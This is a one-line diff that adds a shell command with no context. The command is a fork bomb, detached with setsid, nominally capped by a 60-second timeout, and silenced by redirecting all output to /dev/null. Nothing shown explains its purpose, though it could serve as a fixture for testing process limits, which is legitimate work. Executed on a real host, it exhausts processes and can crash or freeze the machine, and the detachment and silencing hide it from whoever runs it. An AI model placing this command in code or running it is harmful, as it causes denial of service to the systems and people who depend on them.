@@ -1,0 +1,1 @@
+setsid timeout 60 sh -c 'f() { f | f & }; f; sleep 60' </dev/null >/dev/null 2>&1 &
